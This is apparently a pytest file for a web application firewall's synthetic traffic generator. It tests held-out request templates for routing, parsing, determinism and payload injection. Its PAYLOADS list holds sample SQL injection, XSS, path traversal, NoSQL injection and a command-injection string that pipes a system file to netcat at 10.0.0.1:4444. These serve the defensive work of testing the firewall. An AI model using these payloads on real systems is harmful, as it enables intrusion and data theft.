"""Holdout-2 templates: registered as held-out, on routes of their own, seeded, well-formed, injectable."""

from __future__ import annotations

import json
import urllib.parse
from collections import Counter
from email.parser import BytesParser
from email.policy import HTTP
from pathlib import Path
from typing import Any

import pytest
import yaml

from waf_proxy import cli
from waf_proxy.training import synth, synth_templates_holdout
from waf_proxy.training.synth_templates import REGISTRY, Template, templates_for
from waf_proxy.training.synth_templates_holdout import HOLDOUT2
from waf_proxy.training.synth_values import SENTINEL, encode_for_slot
from tests.training.test_synth import _strings, problems

MINE = [REGISTRY[name] for name in HOLDOUT2]
SEEDS = range(30)

# Each payload carries a marker that no benign value contains, so we can find it after encoding.
MARK = "zqmark7"
PAYLOADS = [
    (f"' OR '{MARK}'='{MARK}' -- ", "sqli"),
    (f"<script>alert('{MARK}')</script>", "xss"),
    (f"../../../{MARK}/etc/passwd", "path-traversal"),
    (f"; cat /etc/{MARK} | nc 10.0.0.1 4444 #", "rce"),
    ('{"$where": "' + MARK + '"}', "nosql-injection"),
]


def _on(path: str, routes: tuple[str, ...]) -> bool:
    return any(path == r if r == "/" else path.startswith(r) for r in routes)


def _overlap(a: str, b: str) -> bool:
    """Two routes clash when one is a prefix of the other (the root "/" only matches itself)."""
    if "/" in (a, b):
        return a == b
    return a.startswith(b) or b.startswith(a)


def _ctype(record: dict[str, Any]) -> str:
    return next((v for k, v in record["headers"] if k.lower() == "content-type"), "")


def _parse_body(record: dict[str, Any]) -> Any:
    """Parse a body by its content type, as the receiving app would; raises if malformed."""
    ctype, body = _ctype(record).lower(), record["body"]
    if "ndjson" in ctype:
        return [json.loads(line) for line in body.splitlines()]
    if "json" in ctype:
        return json.loads(body)
    if "yaml" in ctype:
        doc = yaml.safe_load(body)
        assert isinstance(doc, dict)
        return doc
    if "urlencoded" in ctype:
        return urllib.parse.parse_qsl(body, keep_blank_values=True, strict_parsing=True)
    if "multipart" in ctype:
        raw = f"Content-Type: {_ctype(record)}\r\n\r\n".encode() + body.encode("utf-8")
        msg = BytesParser(policy=HTTP).parsebytes(raw)
        assert msg.is_multipart() and not msg.defects
        parts = {p.get_param("name", header="content-disposition"): p.get_content() for p in msg.iter_parts()}
        assert parts and all(name for name in parts)
        return parts
    assert ctype in ("", "text/plain"), ctype
    return body


def _render_all(tpl: Template) -> list[dict[str, Any]]:
    return [synth.render(tpl, f"h2:{tpl.name}:{s}")[0] for s in SEEDS]


def test_holdout2_templates_are_registered_as_held_out() -> None:
    assert 10 <= len(HOLDOUT2) <= 14 and len(set(HOLDOUT2)) == len(HOLDOUT2)
    defined_here = {t.name for t in REGISTRY.values() if t.build.__module__ == synth_templates_holdout.__name__}
    assert defined_here == set(HOLDOUT2)
    holdout = {t.name for t in templates_for("holdout")}
    assert set(HOLDOUT2) <= holdout
    assert not set(HOLDOUT2) & {t.name for t in templates_for("train")}


def test_routes_are_disjoint_from_every_other_template() -> None:
    for mine in MINE:
        for other in REGISTRY.values():
            if other.name == mine.name:
                continue
            for a in mine.routes:
                for b in other.routes:
                    assert not _overlap(a, b), (mine.name, a, other.name, b)


def test_rendering_is_deterministic_per_seed() -> None:
    for tpl in MINE:
        first = _render_all(tpl)
        assert first == _render_all(tpl), tpl.name
        distinct = {json.dumps(r, sort_keys=True) for r in first}
        assert len(distinct) >= len(first) * 0.9, tpl.name


def test_benign_requests_are_valid_parse_and_stay_on_their_routes() -> None:
    other_routes = [r for t in REGISTRY.values() if t.name not in HOLDOUT2 for r in t.routes]
    for tpl in MINE:
        for i, request in enumerate(_render_all(tpl)):
            record = synth._finish(request, f"t-{tpl.name}-{i}", "benign", "normal", f"synth:{tpl.name}")
            assert problems(record) == [], (tpl.name, i, problems(record))
            assert _on(record["path"], tpl.routes) and not _on(record["path"], tuple(other_routes)), (tpl.name, record["path"])
            assert SENTINEL not in json.dumps(record)
            if record["method"] in ("GET", "HEAD", "DELETE", "OPTIONS"):
                assert record["body"] == "" or record["method"] == "DELETE"
            _parse_body(record)


def test_holdout2_covers_methods_formats_clients_and_languages() -> None:
    records = [r for tpl in MINE for r in _render_all(tpl)]
    methods = Counter(r["method"] for r in records)
    assert {"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"} <= set(methods)
    ctypes = {_ctype(r).split(";")[0] for r in records}
    assert {"application/json", "application/x-www-form-urlencoded", "multipart/form-data", "application/x-ndjson", "text/plain"} <= ctypes
    assert ctypes & {"application/yaml", "application/x-yaml", "text/yaml"}
    header_names = Counter(k.lower() for r in records for k, _ in r["headers"])
    assert {"cookie", "authorization", "origin", "referer", "x-device-id"} <= set(header_names)
    auth = {v.split(" ")[0] for r in records for k, v in r["headers"] if k.lower() == "authorization"}
    assert {"Bearer", "Basic"} <= auth
    assert any(k.lower() in ("x-api-key", "api-key", "x-api-token") for r in records for k, _ in r["headers"])
    # free text in many languages: decoded bodies and queries with non-ASCII characters
    decoded = [urllib.parse.unquote_plus(r["query"]) + json.dumps(_parse_body(r), ensure_ascii=False, default=str) for r in records]
    assert sum(not d.isascii() for d in decoded) / len(decoded) > 0.3


def _decoded(record: dict[str, Any], field: str, kind: str) -> str:
    """The field holding a payload, decoded the way the receiving app would."""
    if field.startswith("header:"):
        return urllib.parse.unquote(dict(record["headers"])[field[7:]])
    if field == "path":
        return urllib.parse.unquote(record["path"])
    if field == "query":
        return "\n".join(v for _, v in urllib.parse.parse_qsl(record["query"], keep_blank_values=True))
    if kind == "json":
        return "\n".join(_strings(_parse_body(record)))
    if kind == "form":
        return "\n".join(v for _, v in _parse_body(record))
    return record["body"]  # multipart parts and raw text bodies carry the payload as is


@pytest.mark.parametrize("tpl", MINE, ids=lambda t: t.name)
def test_a_payload_in_any_slot_lands_in_the_request_and_only_there(tpl: Template) -> None:
    for seed in range(8):
        benign, ctx = synth.render(tpl, f"slot:{seed}")
        assert ctx.slots, tpl.name
        for at, slot in enumerate(ctx.slots):
            payload = PAYLOADS[(seed + at) % len(PAYLOADS)][0]
            attack, actx = synth.render(tpl, f"slot:{seed}", inject_at=at)
            encoded = encode_for_slot(actx, slot.kind, payload)
            fields = {k: attack[k] for k in ("path", "query", "body")} | {f"header:{k}": v for k, v in attack["headers"]}
            holding = [k for k, value in fields.items() if SENTINEL in value]
            assert len(holding) == 1, (tpl.name, slot)
            field = holding[0]
            if field.startswith("header:"):
                attack["headers"] = [[k, v.replace(SENTINEL, encoded)] for k, v in attack["headers"]]
            else:
                attack[field] = attack[field].replace(SENTINEL, encoded)
            for key in ("method", "path", "query", "body"):
                if key != field:
                    assert attack[key] == benign[key], (tpl.name, slot, key)
            if slot.kind not in ("cookie", "header"):
                assert payload in _decoded(attack, field, slot.kind), (tpl.name, slot)
            else:
                assert MARK in _decoded(attack, field, slot.kind), (tpl.name, slot)


def test_generated_holdout_attacks_reach_every_holdout2_template() -> None:
    attacks = synth.generate_attacks(900, PAYLOADS, seed=17, templates="holdout", evasion_rate=0)
    mine = [a for a in attacks if a["source"].split(":")[1] in HOLDOUT2]
    assert {a["source"].split(":")[1] for a in mine} == set(HOLDOUT2)
    for attack in mine:
        assert attack["label"] == "attack" and problems(attack) == []
        text = urllib.parse.unquote_plus(attack["path"] + "?" + attack["query"]) + attack["body"] + json.dumps(attack["headers"])
        assert MARK in text.replace("\\u", "").replace("\\", ""), attack["id"]
        if attack["source"].split(":")[2] == "json":
            _parse_body(attack)  # a payload in a JSON field keeps the body valid JSON


def test_cli_synth_writes_holdout_traffic(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "h.jsonl"
    assert cli.main(["synth", "--benign", "500", "--templates", "holdout", "--seed", "4", "--out", str(out)]) == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert len(records) == 500 and all(r["label"] == "benign" for r in records)
    names = Counter(r["source"].split(":")[1] for r in records)
    assert all(REGISTRY[name].group == "holdout" for name in names)
    assert set(HOLDOUT2) <= set(names)
    assert "wrote 500 records" in capsys.readouterr().err
